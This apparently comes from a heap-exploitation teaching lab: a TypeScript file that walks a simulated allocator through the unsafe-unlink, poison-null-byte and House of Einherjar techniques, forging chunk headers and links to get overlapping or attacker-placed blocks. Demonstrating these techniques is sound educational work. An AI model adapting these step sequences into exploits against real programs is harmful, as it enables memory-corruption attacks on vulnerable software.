/** Backward merges that believe a forged prev_size: unlink writes, or a merge swallows a live block. */
import type { Technique } from '../technique.ts';

export const unsafeUnlink: Technique = {
  name: 'unsafe_unlink',
  what: 'A forged free chunk inside a block whose neighbour is freed: unlink writes near a known pointer to it.',
  needs: 'an overflow by 16 bytes into the next header; the address of a pointer to the block',
  corrupts: 'prev_size and P of the next chunk; forged fd and bk',
  gains: 'the pointer to the block now names its own surroundings',
  scope: 'whole',
  run(lab) {
    const table = lab.malloc(0x100, 'table');
    const a = lab.malloc(0x428, 'a');
    const b = lab.malloc(0x428, 'b');
    lab.malloc(0x18, 'guard');
    lab.say('The program keeps a pointer to a in its table.');
    lab.writeAddress(table, 0x40, a);
    lab.say('Inside a: a free chunk of fitting size, whose neighbours in the list are that pointer.');
    lab.write(a, 0x8, 0x420 + 1);
    lab.writeAddress(a, 0x10, table, 0x40 - 0x18);
    lab.writeAddress(a, 0x18, table, 0x40 - 0x10);
    lab.write(a, 0x20, 0);
    lab.write(a, 0x420, 0x420);
    lab.write(a, 0x428, 0x430);
    lab.free(b);
    lab.proveAddress('the pointer to a leads into the table', table, 0x40, table, 0x40 - 0x18);
  },
};

export const poisonNullByte: Technique = {
  name: 'poison_null_byte',
  what: 'One zero byte clears P of the next chunk; links left over from a large bin make the merge backward pass.',
  needs: 'an overflow by one zero byte; low bytes of old links',
  corrupts: 'the lowest byte of a size, prev_size, the low bytes of two old links',
  gains: 'a block over a live one',
  scope: 'whole',
  run(lab) {
    const prev = lab.malloc(0x508, 'prev');
    const victim = lab.malloc(0x4f8, 'victim');
    lab.malloc(0x18, 'g1');
    const a = lab.malloc(0x4f8, 'a');
    lab.malloc(0x18, 'g2');
    const b = lab.malloc(0x518, 'b');
    lab.malloc(0x18, 'g3');
    lab.say('Through a large bin, so that prev holds links to its neighbours by size: a below, b above.');
    for (const block of [a, b, prev]) lab.free(block);
    lab.malloc(0x1008, 'sorter');
    const owner = lab.malloc(0x508, 'owner');
    lab.say(
      'The links are still there. A size before them, and they are fd and bk of a forged chunk in owner.',
    );
    lab.write(owner, 0x8, 0x500 + 1);
    lab.write(owner, 0x500, 0x500);
    lab.say('b.fd must lead to the forged chunk: its low bytes are overwritten in b, allocated again.');
    const b2 = lab.malloc(0x518, 'b2');
    lab.writeLowBytes(b2, 0, 2, owner);
    lab.say('a.bk must, too: a is freed before victim, so that its bk is an address nearby.');
    const a2 = lab.malloc(0x4f8, 'a2');
    lab.free(a2);
    lab.free(victim);
    const a3 = lab.malloc(0x4f8, 'a3');
    lab.writeLowBytes(a3, 0x8, 2, owner);
    const victim2 = lab.malloc(0x4f8, 'victim2');
    lab.say('The zero byte: it clears P of victim.');
    lab.write(owner, 0x508, 0x500);
    lab.free(victim2);
    const over = lab.malloc(0x7f8, 'over');
    lab.proveSame('a block lies over owner, which is live', over, owner, 0x20, 0x30);
  },
};

export const houseOfEinherjar: Technique = {
  name: 'house_of_einherjar',
  what: 'One zero byte and a forged prev_size: the merge reaches back to a forged chunk, over a live block.',
  needs: 'an overflow by one zero byte; the address of the forged chunk',
  corrupts: 'P of the next chunk, prev_size, a forged chunk',
  gains: 'a block over a live one; with a cache, a block at an address of choice',
  scope: 'whole',
  run(lab) {
    const target = lab.malloc(0x100, 'target');
    const a = lab.malloc(0x38, 'a');
    const b = lab.malloc(0x28, 'b');
    const c = lab.malloc(0xf8, 'c');
    const fillers = lab.mallocMany(lab.facts.fillers, 0xf8);
    lab.malloc(0x18, 'guard');
    lab.say('A forged chunk in a, which is its own neighbour in the list: unlink finds nothing wrong.');
    lab.write(a, 0x8, 0x60 + 1);
    lab.writeAddress(a, 0x10, a);
    lab.writeAddress(a, 0x18, a);
    lab.say('b ends with the forged prev_size; one byte further, zero, clears P of c.');
    lab.write(b, 0x20, 0x60);
    lab.write(b, 0x28, 0x100);
    if (fillers.length > 0) lab.freeMany(fillers);
    lab.free(c);
    const over = lab.malloc(0x158, 'over');
    lab.proveSame('a block lies over b, which is live', over, b, 0x30, 0);
    if (lab.facts.cache === null) return;
    lab.say('What lies over a block lies over its link once it is in the cache.');
    const other = lab.malloc(0x28, 'other');
    lab.free(other);
    lab.free(b);
    lab.writeLink(over, 0x30, target, 0x20);
    lab.malloc(0x28, 'head');
    lab.proveSame('the block lies in the target', lab.malloc(0x28, 'won'), target, 0, 0x20);
  },
};
